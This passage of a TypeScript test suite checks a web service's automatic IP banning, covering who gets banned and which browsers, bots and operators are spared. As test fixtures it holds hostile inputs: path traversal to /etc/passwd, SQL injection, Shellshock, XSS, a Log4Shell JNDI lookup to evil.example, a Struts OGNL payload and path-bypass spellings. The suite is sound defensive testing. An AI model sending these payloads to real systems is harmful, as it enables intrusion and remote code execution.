import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { APP, createToken, revokeToken } from '../../../kit/app.ts'
import { parseRaw, sendRaw } from '../../../kit/raw-http.ts'
import { forSuite } from '../../../kit/scope.ts'
import { startTestService, type TestService } from '../../../kit/service.ts'
import { until } from '../../../kit/until.ts'

const OPERATOR = `${APP}/operator`
const ATTACK = `${OPERATOR}/?x=<script>`
const PUBLIC_URL = 'https://animals.example/base'
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'

describe('bans', () => {
  const service = forSuite((scope) => startTestService(scope, { TRUST_PROXY: 'loopback', PUBLIC_URL }))
  let addresses = 0
  const nextAddress = () => `203.0.${Math.floor(++addresses / 250)}.${addresses % 250}`
  /** Sends a request several times from a new address. Returns the codes, and whether the address is banned afterwards. */
  const requestAs = async (path: string, headers: Record<string, string>, times = 1) => {
    const from = { 'x-forwarded-for': nextAddress() }
    const codes: string[] = []
    for (let i = 0; i < times; i++) {
      codes.push((await service().fetchJson(path, { headers: { ...from, ...headers } })).body.code)
    }
    const { body } = await service().fetchJson('/api/v1/version', { headers: from })
    return { codes, isBanned: body.code === 'BANNED' }
  }

  const BROWSER_HEADERS: Record<string, string>[] = [
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
    { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
    { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' },
    { 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', origin: 'https://evil.example' },
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', origin: 'null' },
    { 'content-type': 'application/reports+json', origin: 'https://evil.example' },
    // Safari, if `fetch` is redirected or a script waits for the reply (`XMLHttpRequest.open(method, url, false)`).
    { origin: 'https://evil.example' },
    { origin: 'null' },
  ]
  const ELSEWHERE = BROWSER_HEADERS.map((headers) => ({ ...headers, 'user-agent': BROWSER }))
  test('do not hit visitors of another site', async () => {
    for (const headers of ELSEWHERE) {
      const label = JSON.stringify(headers)
      assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['TOKEN_REQUIRED'], isBanned: false }, label)
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 8)
      assert.deepEqual(guessed, { codes: Array(8).fill('TOKEN_INVALID'), isBanned: false }, label)
    }
  })

  const SAFARI = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/60.5 Safari/605.1.15'
  test('do not hit visitors with Safari, whose redirected pings and beacons do not tell that a page caused them', async () => {
    // What WebKitGTK 2.50 sends after a redirect, from a page over plain HTTP to HTTPS, too. No Origin, no Sec-Fetch.
    const attack = async (method: string, proto: string, head: string) => {
      const from = `X-Forwarded-For: ${nextAddress()}\r\nX-Forwarded-Proto: ${proto}`
      const rest = `${from}\r\n${head}\r\nAccept: */*\r\nHost: x\r\nContent-Length: 4\r\nConnection: close\r\n\r\nPING`
      return parseRaw(await sendRaw(service().url, `${method} ${ATTACK} HTTP/1.1\r\n${rest}`)).body.code
    }
    const safari = `Accept-Language: en\r\nUser-Agent: ${SAFARI}`
    const chromium = safari.replace('Version/60.5', 'Chrome/140.0.0.0')
    for (const proto of ['http', 'https']) {
      const ping = `${safari}\r\nContent-Type: text/ping\r\nPing-From: http://evil.example/\r\nPing-To: http://evil.example/x`
      assert.equal(await attack('POST', proto, ping), 'TOKEN_REQUIRED', proto)
      assert.equal(await attack('POST', proto, `${safari}\r\nContent-Type: text/plain`), 'TOKEN_REQUIRED', proto)
      assert.equal(await attack('GET', proto, `${safari}\r\nReferer: http://evil.example/`), 'TOKEN_REQUIRED', proto)
      // From a page over HTTPS: that of the page before the redirect.
      assert.equal(await attack('POST', proto, 'Accept-Language: en'), 'TOKEN_REQUIRED', 'a page that was left')
      assert.equal(await attack('POST', proto, 'X-A: b'), 'BANNED', 'a script')
      const own = `${ping}\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: empty`
      assert.equal(await attack('POST', proto, own), 'TOKEN_REQUIRED', proto)
      assert.equal(await attack('POST', proto, `${own}\r\nOrigin: https://animals.example`), 'BANNED', proto)
      assert.equal(await attack('POST', proto, chromium), 'BANNED', 'Chromium sends Origin')
      assert.equal(await attack('POST', proto, `${safari}\r\nAuthorization: Bearer ' or 1=1`), 'BANNED', 'a token')
    }
  })

  test('do not hit users of our own pages because of a cookie, which sites under the same domain can set', async () => {
    const script = { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' }
    const cookie = 'last=..%2f..%2fetc%2fpasswd'
    const page = { ...script, origin: 'https://animals.example', 'user-agent': BROWSER, cookie }
    assert.equal(await isBannedAfterBody('{}', page), false, 'a visitor of the API reference')
    const mistyped = await requestAs(`${OPERATOR}/overview`, { ...page, authorization: 'Bearer mng_typo' })
    assert.deepEqual(mistyped, { codes: ['TOKEN_INVALID'], isBanned: false })
    assert.equal((await requestAs(`${OPERATOR}/overview`, { ...page, 'user-agent': 'curl/8.14.1' })).isBanned, true)
  })

  test('do not hit links and pictures in pages of the service, such as those of a text that an operator previews', async () => {
    const page = { 'sec-fetch-site': 'same-origin', 'user-agent': BROWSER }
    const shown = [
      { ...page, 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
      { ...page, 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
    ]
    for (const headers of shown) {
      assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['TOKEN_REQUIRED'], isBanned: false })
      // For a proxy in front.
      const signedIn = { ...headers, authorization: 'Basic YWRtaW46YWRtaW4=' }
      assert.equal((await requestAs(ATTACK, signedIn)).isBanned, false)
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 5)
      assert.equal(guessed.isBanned, true)
    }
  })

  test('do not hit a visitor of the API reference who sends requests without entering a token', async () => {
    const own: Record<string, string>[] = [{ 'sec-fetch-site': 'same-origin' }, { origin: 'https://animals.example' }]
    for (const headers of own) {
      const page = { ...headers, 'user-agent': BROWSER }
      const sent = await requestAs(`${OPERATOR}/overview`, { ...page, authorization: 'Bearer' }, 8)
      assert.deepEqual(sent, { codes: Array(8).fill('TOKEN_REQUIRED'), isBanned: false }, JSON.stringify(headers))
      assert.equal((await requestAs(ATTACK, { ...page, authorization: 'Bearer' })).isBanned, true, 'an attack')
      const program = await requestAs(`${OPERATOR}/overview`, { ...headers, authorization: 'Bearer' }, 5)
      assert.equal(program.isBanned, true, 'a program')
    }
    const script = { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' }
    const typed = { ...script, 'user-agent': BROWSER, authorization: 'Bearer' }
    assert.equal((await requestAs(ATTACK, typed)).isBanned, false, 'a text in the form of the page')
    assert.equal(await isBannedAfterBody('{"markdown":"<img src=../a.png>"}', typed), false, 'a body')
  })

  const isBrowser = (userAgent: string) => userAgent.startsWith('Mozilla/5.0 (')
  const READS_FOR_OTHERS = [
    'AppleCoreMedia/1.0.0.21A329 (iPhone; U; CPU OS 17_0 like Mac OS X; en_us)',
    'Microsoft-CryptoAPI/10.0',
    'Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)',
    'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
    'WhatsApp/2.23.20.0 A',
    'Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)',
    // The privacy proxies of Apple Mail.
    'Mozilla/5.0',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Google Favicon',
    'github-camo (876de43e)',
    'Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5',
    'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
    'Shields.io/2026-01-01',
    'FreshRSS/1.20.0 (Linux; https://freshrss.org)',
    'Feedbin feed-id:1 - 10 subscribers',
    'YisouSpider',
    'facebookexternalhit/1.1;line-poker/1.0',
    'Nextcloud Server Crawler',
    'Uptime-Kuma/1.23.11',
    // The command `content add` with a list of URLs.
    'menagerie',
    // Playlists (HLS) of Firefox on Android, and icons of Safari.
    'Mozilla/5.0 (Android 14; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0',
    'MobileSafari/8617.2 CFNetwork/1498 Darwin/23.3.0',
    // Apps that show the pictures of messages.
    'okhttp/4.12.0',
    'Dart/3.5 (dart:io)',
    'UnityPlayer/2022.3.22f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)',
    // Players of playlists.
    'VLC/3.0.20 LibVLC/3.0.20',
    'Lavf/61.1.100',
    'Kodi/21.0 (Windows NT 10.0; Win64) App_Bitness/64',
    'NSPlayer/12.00.19041.6926 WMFSDK/12.00.19041.6926',
    'GStreamer souphttpsrc 1.24.2 libsoup/3.4.4',
    // Images of documents and mails.
    'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.17328; Pro)',
    'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0; Microsoft Outlook 16.0.17328; ms-office; MSOffice 16)',
    'LibreOffice 24.2 denylistedbackend/8.5.0 OpenSSL/3.0.13',
    // Servers of forums and blogs that show a link with its title.
    'Discourse Forum Onebox v3.3.2',
    'Misskey/2024.5.0 (https://social.example)',
    'Pleroma 2.5.0; https://social.example <admin@social.example>',
    "Friendica 'Yellow Archangel' 2024.08-1562; https://social.example",
    'WordPress/6.6; https://blog.example',
    'XenForo/2.x (https://forum.example)',
    'Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)',
    'Valve/Steam HTTP Client 1.0',
    'A program that nobody has heard of',
    'PHP-Feed-Reader/1.0',
    'Arachnid/2.0',
    // They send the posts of their users to the inbox that a follower names, and office programs OPTIONS for a link.
    'Mastodon/4.4.0 (http.rb/5.2.0; +https://social.example/)',
    'Microsoft Office Protocol Discovery',
    // Their addresses contain names of scanners.
    'Mastodon/4.4.0 (http.rb/5.2.0; +https://hydra.example/)',
    'WordPress/6.6; https://fuzzy-cats.example',
    'Pleroma 2.5.0; https://social.example <admin@nmap.example>',
  ]
  test('do not hit programs that read what others name: videos, certificates, images, previews of links', async () => {
    for (const userAgent of READS_FOR_OTHERS) {
      const headers = { 'user-agent': userAgent }
      // Proxies and clients repeat parts of the URL in headers, as the host and the user here.
      const repeated = {
        referer: 'https://forum.example/?q=<script>',
        'x-original-url': ATTACK,
        forwarded: 'host="a`id.evil.example"',
        authorization: 'Basic YTpi/etc/passwd',
        // Of the server that redirected to this URL.
        'if-none-match': '"../../etc/passwd"',
      }
      const read = await requestAs(ATTACK, { ...headers, ...repeated })
      assert.deepEqual(read, { codes: ['TOKEN_REQUIRED'], isBanned: false }, userAgent)
      assert.equal(await isBannedAfterBody('{"content":"<img src=../../etc/passwd>"}', headers), false, userAgent)
      const signed = { ...headers, authorization: 'Signature keyId="https://social.example/u",signature="eA=="' }
      assert.equal((await requestAs(ATTACK, signed, 6)).isBanned, false, userAgent)
      assert.equal((await requestAs(ATTACK, { ...headers, cookie: 'a=../../etc/passwd' })).isBanned, true, userAgent)
    }
    for (const userAgent of [true, false].map((kind) => READS_FOR_OTHERS.find((name) => isBrowser(name) === kind)!)) {
      const headers = { 'user-agent': userAgent }
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 5)
      assert.equal(guessed.isBanned, true, userAgent)
    }
  })

  test('do not hit players that read the page of a video with yt-dlp', async () => {
    // `fetch` replaces Sec-Fetch-Mode.
    const attack = async (method: string, userAgent: string) => {
      const head = `Host: x\r\nX-Forwarded-For: ${nextAddress()}\r\nX-Forwarded-Proto: https\r\nConnection: close`
      const video = `User-Agent: ${userAgent}\r\nAccept-Language: en-us,en;q=0.5\r\nSec-Fetch-Mode: navigate`
      const reply = await sendRaw(service().url, `${method} ${ATTACK} HTTP/1.1\r\n${head}\r\n${video}\r\n\r\n`)
      return parseRaw(reply).body.code
    }
    assert.equal(await attack('GET', BROWSER), 'TOKEN_REQUIRED')
    assert.equal(await attack('GET', 'curl/8.14.1'), 'BANNED')
    assert.equal(await attack('POST', BROWSER), 'BANNED')
  })

  test('do not hit those who follow a link to a host name with an attack, which leads to the service', async () => {
    const rest = `User-Agent: LibreOffice 24.2\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close\r\n\r\n`
    const request = (host: string) => sendRaw(service().url, `OPTIONS ${ATTACK} HTTP/1.1\r\nHost: ${host}\r\n${rest}`)
    assert.equal(parseRaw(await request('a`id.evil.example')).body.code, 'BAD_REQUEST')
    assert.equal(parseRaw(await request('animals.example')).body.code, 'TOKEN_REQUIRED')
  })

  test('do not hit users of a launcher that shows pictures and pages of others', async () => {
    for (const headers of BROWSER_HEADERS.slice(0, 3)) {
      const shown = await requestAs(ATTACK, { ...headers, 'user-agent': 'FoxLauncher/2.0' })
      assert.deepEqual(shown, { codes: ['TOKEN_REQUIRED'], isBanned: false }, JSON.stringify(headers))
    }
    // Scripts of such a page may set these headers.
    const script = { ...BROWSER_HEADERS[3]!, 'user-agent': 'FoxLauncher/2.0' }
    assert.equal((await requestAs(ATTACK, { ...script, accept: '../../etc/passwd' })).isBanned, false)
    assert.equal((await requestAs(`${OPERATOR}/overview`, { ...script, authorization: 'Bearer x' }, 6)).isBanned, false)
    // Without Sec-Fetch headers: WebSockets, and all requests over plain HTTP.
    const byScripts = ['accept', 'accept-language', 'content-language', 'content-type', 'if-none-match']
    for (const name of [...byScripts, 'last-event-id', 'ping-to', 'sec-websocket-protocol']) {
      const headers = { 'user-agent': 'FoxLauncher/2.0', [name]: 'text/plain;x=../../etc/passwd' }
      assert.equal((await requestAs(ATTACK, headers)).isBanned, false, name)
      assert.equal((await requestAs(ATTACK, { ...headers, 'user-agent': 'curl/8.14.1' })).isBanned, true, name)
    }
    const guess = { 'user-agent': 'FoxLauncher/2.0', authorization: 'Bearer ../../etc/passwd' }
    for (const origin of ['http://evil.example', 'null'])
      assert.equal((await requestAs(`${OPERATOR}/overview`, { ...guess, origin }, 6)).isBanned, false, origin)
    for (const origin of ['https://animals.example', ''])
      assert.equal(
        (await requestAs(`${OPERATOR}/overview`, { ...guess, ...(origin && { origin }) })).isBanned,
        true,
        origin,
      )
  })

  test('do not hit visitors of a page that sets their User-Agent: a browser asks first, and is refused', async () => {
    const preflight = { origin: 'https://evil.example', 'access-control-request-method': 'GET', 'user-agent': BROWSER }
    for (const asked of ['user-agent', 'x-any']) {
      const headers = { ...preflight, 'access-control-request-headers': asked }
      const reply = await service().fetchPath(`${OPERATOR}/overview`, { method: 'OPTIONS', headers })
      assert.equal(reply.status, 204)
      assert.doesNotMatch(reply.headers.get('access-control-allow-headers') ?? '*', /\*|user-agent/i)
    }
  })

  test('do not hit a preflight: that of Safari has the User-Agent that the page sets, that of a report no Sec-Fetch', async () => {
    const address = { 'x-forwarded-for': '203.0.113.250' }
    const preflight = { origin: 'https://evil.example', 'access-control-request-method': 'POST' }
    for (const userAgent of ['curl/8.14.1', BROWSER]) {
      const headers = { ...address, ...preflight, 'user-agent': userAgent }
      const { status } = await service().fetchPath(ATTACK, { method: 'OPTIONS', headers })
      assert.equal(status, 404)
      assert.equal((await service().fetchPath('/api/v1/version', { headers: address })).status, 200, userAgent)
    }
  })

  const OWN: Record<string, string>[] = [
    {},
    { 'user-agent': 'curl/8.14.1' },
    { 'user-agent': 'python-requests/2.32.3' },
    { 'user-agent': 'python-urllib3/2.5.0' },
    { 'user-agent': 'Wget2/2.2.0' },
    { 'user-agent': 'Fuzz Faster U Fool v2.1.0' },
    { 'user-agent': 'sqlmap/1.9#stable (https://sqlmap.org)' },
    { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' },
    { 'user-agent': 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)' },
    { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' },
    { 'user-agent': 'Fuzz Faster U Fool v2.1.0-dev' },
    { 'user-agent': 'Wfuzz/3.1.0' },
    { 'user-agent': BROWSER },
    { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' },
    { 'sec-fetch-site': 'same-origin', origin: 'https://animals.example' },
    { origin: 'https://animals.example' },
    { origin: 'null' },
    { origin: 'https://animals.example', 'user-agent': BROWSER },
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'user-agent': 'curl/8' },
    { 'sec-fetch-site': 'cross-site', 'user-agent': BROWSER },
  ]
  test('hit clients that attack directly, in a browser too', async () => {
    for (const headers of OWN) {
      const label = JSON.stringify(headers)
      assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['BANNED'], isBanned: true }, label)
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 5)
      assert.equal(guessed.isBanned, true, label)
    }
  })

  const BYPASSES = [
    `http://x${OPERATOR}/bans?x=../../etc/passwd`,
    `HTTP://x:80${OPERATOR}/../../etc/passwd`,
    `${APP}/%6fperator/bans?x=../../etc/passwd`,
    '/api/v5/ap%70/operator/bans?x=<script>',
    '/api/v5/ap%70/operator/%zz/../../etc/passwd',
    `${OPERATOR}%252f..%252f..%252fsecret`,
    `${OPERATOR};/..;/secret`,
    `${OPERATOR}%5c..%5csecret`,
    `${OPERATOR}%3fx=../secret`,
    `/${OPERATOR}/bans?x=../secret`,
    `${APP}//operator/bans?x=<script>`,
    `${APP}/./%6fperator/bans?x=<script>`,
    `${APP}/launcher/..%2foperator/bans`,
    `/x/%2e%2e${OPERATOR}/overview`,
    '/api\\v5\\app%2foperator?x=<script>',
  ]
  test('hit an attack in every spelling of the path', async () => {
    for (const target of BYPASSES) {
      const head = `Host: x\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
      const { body } = parseRaw(await sendRaw(service().url, `GET ${target} HTTP/1.1\r\n${head}\r\n\r\n`))
      assert.equal(body.code, 'BANNED', target)
    }
  })

  const HEADERS: Record<string, string>[] = [
    { authorization: "Bearer ' or '1'='1" },
    { authorization: 'Bearer $(cat ../../etc/passwd)' },
    { cookie: 'a=1; file=..%2f..%2fetc%2fpasswd' },
    { 'user-agent': '() { :; }; /bin/bash -c x' },
    { 'user-agent': '<script>alert(1)</script>' },
    { 'x-api-version': '\u0024{jndi:ldap://evil.example/a}' },
    { referer: 'https://evil.example/?q=<script>alert(1)</script>' },
    { 'accept-language': '\u0024{jndi:ldap://evil.example/a}' },
    { 'content-type': "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}{{7*7}}" },
    { 'true-client-ip': "192.0.2.1' or '1'='1" },
    { forwarded: 'for="../../etc/passwd"' },
  ]
  test('hit an attack in a header', async () => {
    for (const headers of HEADERS) {
      const reply = await requestAs(`${OPERATOR}/overview`, headers)
      assert.deepEqual(reply, { codes: ['BANNED'], isBanned: true }, JSON.stringify(headers))
      const elsewhere = await requestAs('/api/v1/version', headers)
      assert.equal(elsewhere.isBanned, false, JSON.stringify(headers))
    }
  })

  test('hit an attack in a request with an invalid host, or without one', async () => {
    for (const host of ['Host: <script>\r\n', 'Host: a b\r\n', 'Host: a.example\r\nHost: b.example\r\n', '']) {
      const from = `X-Forwarded-For: ${nextAddress()}\r\nConnection: close\r\n\r\n`
      const request = async (path: string) =>
        parseRaw(await sendRaw(service().url, `GET ${path} HTTP/1.1\r\n${host}${from}`)).body.code
      assert.equal(await request('/api/v1/version'), 'BAD_REQUEST', host)
      assert.equal(await request(`${OPERATOR}/?x=../../etc/passwd`), 'BANNED', host)
      assert.equal(await request('/api/v1/version'), 'BANNED', host)
    }
    const head = `Host: a b\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
    const browser = `${head}\r\nUser-Agent: ${BROWSER}\r\nCookie: a=../../etc/passwd\r\n\r\n`
    assert.equal(parseRaw(await sendRaw(service().url, `GET ${OPERATOR}/ HTTP/1.1\r\n${browser}`)).body.code, 'BANNED')
  })

  const HARMLESS_HEADERS: Record<string, string>[] = [
    { cookie: 'theme=dark; id=5; last=/shop/index.php?a=1&id=2; cat=7' },
    { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 4.1; id; GT-I9100) AppleWebKit/534.30; id-id' },
    { 'x-requested-with': 'XMLHttpRequest' },
    { authorization: 'Basic YWRtaW46YWRtaW4=' },
    {
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'accept-language': 'id-ID, id;q=0.9, or;q=0.8, en; id',
      'cf-visitor': '{"scheme":"https"}',
      'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary; id',
      forwarded: 'for="[2001:db8::1]:80";proto=https;by=_hidden',
      'if-none-match': 'W/"a--b", "c"',
      referer: 'https://forum.example/index.php?topic=1&id=2;cat=3#or-1',
      'sec-ch-ua': '"Not)A;Brand";v="8", "Chromium";v="138"',
      via: '1.1 varnish (Varnish/7.1), 1.1 google',
    },
  ]
  test('do not hit usual headers, queries and bodies', async () => {
    for (const headers of HARMLESS_HEADERS) {
      const reply = await requestAs(`${OPERATOR}/overview?a=1&id=2&cat=7`, headers, 8)
      assert.deepEqual(reply, { codes: Array(8).fill('TOKEN_REQUIRED'), isBanned: false }, JSON.stringify(headers))
    }
    assert.equal(await isBannedAfterBody('{"address":"192.0.2.1","reason":"asks for /wp-login.php"}'), false)
  })

  const isBannedAfterBody = async (body: string, headers: Record<string, string> = {}) => {
    const from = { 'x-forwarded-for': nextAddress() }
    const reply = await service().fetchJson(`${OPERATOR}/bans`, {
      method: 'POST',
      body,
      headers: { ...from, ...headers },
    })
    assert.equal(reply.status, 401)
    return (await service().fetchJson('/api/v1/version', { headers: from })).body.code === 'BANNED'
  }
  const ATTACKS_IN_BODIES = [
    '{"reason":"../../etc/passwd"}',
    'a=1&b=%27+or+1%3D1',
    '{"__proto__":{"x":1}}',
    '{"reason":"\\u003cscript>"}',
    '{"file":"../secret"}',
    `{"reason":"${' '.repeat(12_000)}<script>"}`,
  ]
  test('hit an attack in the body of a request without a token of the service', async () => {
    assert.equal(await isBannedAfterBody(ATTACKS_IN_BODIES[0]!, { authorization: 'Bearer x' }), true)
    for (const attack of ATTACKS_IN_BODIES) {
      assert.equal(await isBannedAfterBody(attack), true, attack)
      assert.equal(await isBannedAfterBody(attack, ELSEWHERE[2]), false, 'of a page of another site')
    }
    assert.equal(await isBannedAfterBody(`../etc/passwd${'x'.repeat(100_000)}`), true, 'in a large body')
    // Without a match, like all requests that wait for their turn while the service is busy.
    const head = 'Host: x\r\nX-Forwarded-For: 198.51.100.250\r\nContent-Length: 9\r\nConnection: close'
    await sendRaw(service().url, `GET ${OPERATOR}/unknown HTTP/1.1\r\n${head}\r\n\r\n../../etc`)
    const banned = await service().fetchJson('/api/v1/version', { headers: { 'x-forwarded-for': '198.51.100.250' } })
    assert.equal(banned.body.code, 'BANNED', 'of a GET')
  })

  test('do not hit an operator who publishes or bans with a token that was revoked or mistyped', async () => {
    const from = { 'x-forwarded-for': nextAddress() }
    const program = `MZ\0${'../node_modules/;rm'.repeat(10)}`
    const upload = `${OPERATOR}/uploads/${'a'.repeat(64)}`
    const authorization = 'Bearer mng_revoked'
    for (const [method, path, body, headers] of [
      ['PUT', upload, program, { authorization }],
      ['PUT', upload, program, {}],
      ['PUT', `${OPERATOR}/news/a`, '{"markdown":"<img src=../a.png> <script>"}', { authorization }],
      ['POST', `${OPERATOR}/bans`, '{"address":"192.0.2.1","reason":"asks for ../../etc/passwd"}', { authorization }],
    ] as const) {
      const { status } = await service().fetchPath(path, { method, body, headers: { ...from, ...headers } })
      assert.equal(status, 401)
    }
    assert.equal((await service().fetchPath('/api/v1/version', { headers: from })).status, 200)
  })

  const NO_TOKENS = [
    '',
    ' $TOKEN',
    ' \u0024{env.TOKEN}',
    ' \u0024{{ secrets.TOKEN }}',
    ' {{config.token}}',
    ' $(cat token)',
    ' undefined',
    ' <your-token>',
    ' YOUR_TOKEN_HERE',
    ' $env:TOKEN',
    ' ***',
  ]
  test('do not hit an operator whose token is empty, quoted or the text that a CI job should have replaced', async () => {
    const body = '{"markdown":"<img src=../a.png>"}'
    for (const token of NO_TOKENS)
      assert.equal(await isBannedAfterBody(body, { authorization: `Bearer${token}` }), false)
    for (const authorization of ['Bearer "mng_quoted"', 'mng_without-scheme', 'Bearer mngc_client-key'])
      assert.equal(await isBannedAfterBody(body, { authorization }), false)
  })

  test('do not hit a program that goes on with a token that was revoked', async () => {
    const { id, headers } = await createToken(service().dataDir)
    const untilStatus = (status: number) =>
      until(async () => (await service().fetchPath(`${OPERATOR}/overview`, { headers })).status === status)
    await untilStatus(200)
    await revokeToken(service().dataDir, id)
    await untilStatus(401)
    const refused = await requestAs(`${OPERATOR}/overview`, { authorization: headers.Authorization }, 8)
    assert.deepEqual(refused, { codes: Array(8).fill('TOKEN_INVALID'), isBanned: false })
  })

  test('hit clients that send malformed tokens', async () => {
    for (const authorization of ['Bearer', 'Bearer a b', 'mng_guess', 'Token x', 'Bearer \t']) {
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization }, 5)
      assert.deepEqual(guessed, { codes: Array(5).fill('TOKEN_INVALID'), isBanned: true }, authorization)
    }
  })

  test('do not apply to paths that only start like the operator endpoints', async () => {
    const others = [
      `${APP}/operators?x=../../etc/passwd`,
      `${APP}/operator-guide?q=javascript:`,
      `${APP}/x/?q=<script>`,
    ]
    for (const path of others) {
      assert.deepEqual(await requestAs(path, {}), { codes: ['UNKNOWN_PATH'], isBanned: false })
    }
  })
})

test('over plain HTTP, where browsers send less, a request with the Origin of another site is exempt, but not from a tool', async (t) => {
  const { fetchJson } = await startTestService(t, { TRUST_PROXY: 'loopback', PUBLIC_URL: 'http://animals.example' })
  const attack = async (address: string, headers: Record<string, string>) =>
    (await fetchJson(ATTACK, { headers: { 'x-forwarded-for': address, ...headers } })).body.code
  for (const origin of ['http://evil.example', 'https://animals.example', 'null']) {
    assert.equal(await attack('203.0.113.1', { origin, 'user-agent': BROWSER }), 'TOKEN_REQUIRED', origin)
  }
  assert.equal(await attack('203.0.113.2', { origin: 'http://animals.example', 'user-agent': BROWSER }), 'BANNED')
  assert.equal(await attack('203.0.113.3', { origin: 'null' }), 'BANNED')
  const image = { 'user-agent': BROWSER, 'accept-language': 'en' } // Without Origin.
  assert.equal(await attack('203.0.113.4', image), 'TOKEN_REQUIRED')
})

test('a page whose name leads to the service (DNS rebinding) cannot get its visitors banned', async (t) => {
  const { url } = await startTestService(t, { BAN_EXEMPT: '' })
  const attack = (headers: string) =>
    sendRaw(url, `POST ${ATTACK} HTTP/1.1\r\nHost: evil.example\r\n${headers}Content-Length: 0\r\n\r\n`)
  const page = `Origin: http://evil.example\r\nUser-Agent: ${BROWSER}\r\n`
  assert.equal(parseRaw(await attack(page)).body.code, 'TOKEN_REQUIRED')
  assert.equal(parseRaw(await attack('Origin: http://evil.example\r\n')).body.code, 'BANNED')
})

test('nor can a page with a name that looks like a loopback address', async (t) => {
  const { url } = await startTestService(t, { BAN_EXEMPT: '' })
  const image = `Host: 127.evil.example\r\nAccept-Language: en\r\nUser-Agent: ${BROWSER}\r\nConnection: close`
  assert.equal(parseRaw(await sendRaw(url, `GET ${ATTACK} HTTP/1.1\r\n${image}\r\n\r\n`)).body.code, 'TOKEN_REQUIRED')
})

test('a page of another site cannot get its visitors banned through the port behind an HTTPS proxy', async (t) => {
  // Browsers send no Sec-Fetch headers over plain HTTP.
  const { fetchJson } = await startTestService(t, { BAN_EXEMPT: '', PUBLIC_URL })
  const image = { 'user-agent': BROWSER, 'accept-language': 'en' }
  assert.equal((await fetchJson(ATTACK, { headers: image })).body.code, 'TOKEN_REQUIRED')
  const script = { 'user-agent': BROWSER, origin: 'http://evil.example' }
  assert.equal((await fetchJson(ATTACK, { headers: script })).body.code, 'TOKEN_REQUIRED')
  assert.equal((await fetchJson(ATTACK)).body.code, 'BANNED')
})

test('a proxy that does not forward the client address is refused, logged once, and never banned', async (t) => {
  const { fetchJson, printed } = await startTestService(t, { TRUST_PROXY: '127.0.0.1', BAN_EXEMPT: '' })
  for (const unreadable of ['', 'unknown', '_hidden']) {
    const headers = { 'x-forwarded-for': unreadable }
    assert.equal((await fetchJson(ATTACK, { headers })).body.code, 'TOKEN_REQUIRED')
    for (let i = 0; i < 6; i++) {
      const wrong = { headers: { ...headers, authorization: 'Bearer x' } }
      assert.equal((await fetchJson(`${OPERATOR}/overview`, wrong)).body.code, 'TOKEN_INVALID')
    }
    assert.equal((await fetchJson('/api/v1/version', { headers })).status, 200)
  }
  assert.equal(printed.filter((text) => text.includes('TRUST_PROXY')).length, 1)
  assert.equal((await fetchJson(ATTACK, { headers: { 'x-forwarded-for': '203.0.113.5' } })).body.code, 'BANNED')
})

describe('a private address that forwards requests without being in TRUST_PROXY', () => {
  const FORWARDED: Record<string, string>[] = [
    { 'x-forwarded-for': '198.51.100.7' },
    { 'x-real-ip': '198.51.100.7' },
    { forwarded: 'for=198.51.100.7' },
    { 'cf-connecting-ip': '198.51.100.7' },
  ]
  const attack = async ({ fetchJson }: TestService, headers: Record<string, string>) => {
